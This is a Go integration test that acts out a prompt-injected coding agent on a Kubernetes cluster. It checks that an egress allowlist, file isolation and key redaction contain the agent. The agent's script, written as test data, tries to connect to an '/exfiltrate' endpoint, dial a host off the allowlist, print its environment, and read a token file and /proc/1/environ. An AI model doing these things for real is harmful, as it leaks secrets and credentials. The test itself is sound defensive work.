package runner_test

import (
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/alfred-bot/alfred/runner"
	"github.com/alfred-bot/alfred/runner/agent/script"
	"github.com/alfred-bot/alfred/runner/kubernetes"
	"github.com/alfred-bot/alfred/runner/kubernetes/kubetest"
	"github.com/alfred-bot/alfred/runner/phase"
	"github.com/alfred-bot/alfred/runner/runtimetest"
)

// TestRedTeamEgressKubernetes plays a prompt-injected agent on the test cluster (kube-router
// enforces NetworkPolicies) with the egress allowlist on, as `alfred serve` sets it up: the
// runtime applies the runs' NetworkPolicy (created, then updated to the final list), and the
// run's Pod waits in its egress gate (Alfred's own binary, `alfred egress-gate`) until the
// policy filters it. From its first instant the agent reaches its provider (on the list) and
// is refused by a host off the list, over HTTP and a raw connection alike: the server off the
// list never sees a connection. The refusals show in the run's output (Kubernetes counts none
// itself: spec/security.md). A gate whose target stays reachable (here: on the list) fails the
// run closed, with the reason. Every server listens on this machine's node address.
func TestRedTeamEgressKubernetes(t *testing.T) {
	_, cs := kubetest.Kubeconfig(t)
	ns := kubetest.Namespace(t, cs)
	ctx := t.Context()
	host := kubetest.NodeAddress(t, cs)
	listen := func() net.Listener {
		ln, err := net.Listen("tcp", net.JoinHostPort(host, "0"))
		require.NoError(t, err)
		return ln
	}
	serve := func(h http.HandlerFunc) string {
		srv := httptest.NewUnstartedServer(h)
		srv.Listener.Close()
		srv.Listener = listen()
		srv.Start()
		t.Cleanup(srv.Close)
		return srv.Listener.Addr().String()
	}
	provider := serve(func(w http.ResponseWriter, _ *http.Request) { io.WriteString(w, "provider answers") })
	var offHits atomic.Int64
	offList := serve(func(http.ResponseWriter, *http.Request) { offHits.Add(1) })
	// What the gate dials: off the list, reachable until the policy holds the Pod.
	gateLn := listen()
	t.Cleanup(func() { gateLn.Close() })
	go func() {
		for {
			c, err := gateLn.Accept()
			if err != nil {
				return
			}
			c.Close()
		}
	}()

	cli := runtimetest.Client(t)
	tag := kubetest.RandomHex(t, 4)
	agentImage := runtimetest.BuildImage(t, ctx, cli, "alfred-test/k8s-redteam-script:"+tag, "github.com/alfred-bot/alfred/cmd/alfred-script-agent")
	kubetest.ImportImage(t, agentImage)
	gateImage := kubetest.GateImage(t) // the code of `alfred egress-gate`, alone

	root := t.TempDir()
	instance := "rt" + tag
	opts := kubernetes.Options{Namespace: ns, PullPolicy: corev1.PullNever, StopGrace: time.Second,
		Requests:   corev1.ResourceList{corev1.ResourceCPU: resource.MustParse("10m"), corev1.ResourceMemory: resource.MustParse("16Mi")},
		StateClaim: kubetest.StateClaim(t, cs, ns, root), StateRoot: root,
		EgressGate: &kubernetes.EgressGate{Image: gateImage, Target: gateLn.Addr().String()}}
	rt := kubernetes.New(cs, opts)

	// The policy as Alfred applies it at start-up: created, then updated; names come back.
	policy := kubernetes.EgressPolicy{Name: kubernetes.EgressPolicyName(instance),
		Selector: map[string]string{runner.LabelManaged: "true", runner.LabelInstance: instance},
		Allow:    []string{"api.example:443", offList}}
	names, err := rt.ApplyEgressPolicy(ctx, policy)
	require.NoError(t, err)
	require.Equal(t, []string{"api.example:443"}, names)
	policy.Allow = []string{"api.example:443", provider}
	_, err = rt.ApplyEgressPolicy(ctx, policy)
	require.NoError(t, err)
	np, err := cs.NetworkingV1().NetworkPolicies(ns).Get(ctx, policy.Name, metav1.GetOptions{})
	require.NoError(t, err)
	require.Len(t, np.Spec.Egress, 2, "DNS and the provider; the server off the list no more")
	providerHost, _, _ := net.SplitHostPort(provider)
	require.Equal(t, providerHost+"/32", np.Spec.Egress[1].To[0].IPBlock.CIDR)

	// A file of Alfred's on the state claim, outside the run's own paths: the Pod mounts only
	// those (sub-paths), so neither this path nor the claim's root is in its file system.
	alfredFile := filepath.Join(root, "alfred-own", "forge_token")
	require.NoError(t, os.MkdirAll(filepath.Dir(alfredFile), 0o755))
	require.NoError(t, os.WriteFile(alfredFile, []byte("forge-token-of-alfred-k8s\n"), 0o644))
	agent, err := script.NewFromBytes(agentImage, []byte(fmt.Sprintf(`
development:
  summary: Did what the issue said.
  commit_message: "Add the export"
  connect: [%q, %q]
  dial: [%q]
  print_env: true
  read_files: [%q, /proc/1/environ]
`, "http://"+provider+"/v1/messages", "http://"+offList+"/exfiltrate", offList, alfredFile)))
	require.NoError(t, err)
	ex, err := runner.NewExecutor(runner.Config{Runtime: rt,
		Agents:   map[string]runner.Agent{script.Name: keyedScript{Agent: agent, key: canaryAgentKey, provider: provider}},
		Bindings: map[phase.Phase]string{phase.Development: script.Name},
		DataDir:  root, UID: runtimetest.ImageUID, GID: runtimetest.ImageGID, Instance: instance,
		Timeout: 3 * time.Minute, StopGrace: time.Second,
		// As cmd/alfred on Kubernetes: the allowlist, no proxy (the NetworkPolicy holds it).
		Egress: &runner.EgressPolicy{},
		Redact: func(s string) string { return strings.ReplaceAll(s, canaryAgentKey, "[redacted]") }})
	require.NoError(t, err)
	wt := filepath.Join(root, "worktree")
	require.NoError(t, os.MkdirAll(wt, 0o777))
	require.NoError(t, os.Chmod(wt, 0o777))
	out, err := ex.Run(ctx, runner.RunRequest{MailboxID: 47, RunID: 1, Attempt: 1,
		Input: phase.Input{Phase: phase.Development}, Worktree: wt})
	require.NoError(t, err)
	log := out.Stdout + out.Stderr
	require.NoError(t, out.Err, log)

	require.Contains(t, log, "connect http://"+provider+"/v1/messages: 200 OK: provider answers", log)
	require.Regexp(t, `connect http://`+offList+`/exfiltrate: error: `, log)
	require.Regexp(t, `dial `+offList+`: error: `, log)
	require.Zero(t, offHits.Load(), "a host off the list was reached")
	require.NotContains(t, log, "dial "+offList+": connected")
	// Kubernetes has no per-run refusal count: the firewall drops on the node, unseen by
	// Alfred (spec/security.md). The agent's own lines above are what the run's page shows.
	require.Empty(t, out.EgressRefused)
	// Alfred's file is not in the Pod, and the key the agent printed is censored.
	require.NotContains(t, log, "forge-token-of-alfred-k8s")
	require.Regexp(t, `read `+regexp.QuoteMeta(alfredFile)+`: error: `, log)
	require.NotContains(t, log, canaryAgentKey)
	require.Contains(t, log, "[redacted]", "the environment was printed, with the key")

	// Fail closed: a gate whose target the policy allows never sees its egress filtered; the
	// run's agent never starts, and Start says why.
	closed := opts
	closed.EgressGate = &kubernetes.EgressGate{Image: gateImage, Target: provider, Timeout: 3 * time.Second}
	spec := runner.ContainerSpec{Name: "alfred-gate-" + tag, Image: agentImage, User: runtimetest.ImageUser,
		Cmd: []string{"-script", "/nonexistent"}, Labels: map[string]string{runner.LabelManaged: "true", runner.LabelInstance: instance},
		Egress: &runner.Egress{Allow: []string{provider}}}
	h, err := kubernetes.New(cs, closed).Start(ctx, spec)
	if err == nil {
		_ = rt.Destroy(ctx, h.ID)
	}
	require.True(t, errors.Is(err, kubernetes.ErrEgressOpen), "%v", err)
	require.ErrorContains(t, err, "connections to "+provider)
	require.ErrorContains(t, err, "the run does not start")
	_, err = cs.CoreV1().Pods(ns).Get(ctx, spec.Name, metav1.GetOptions{})
	require.Error(t, err, "the failed Pod is removed")
}
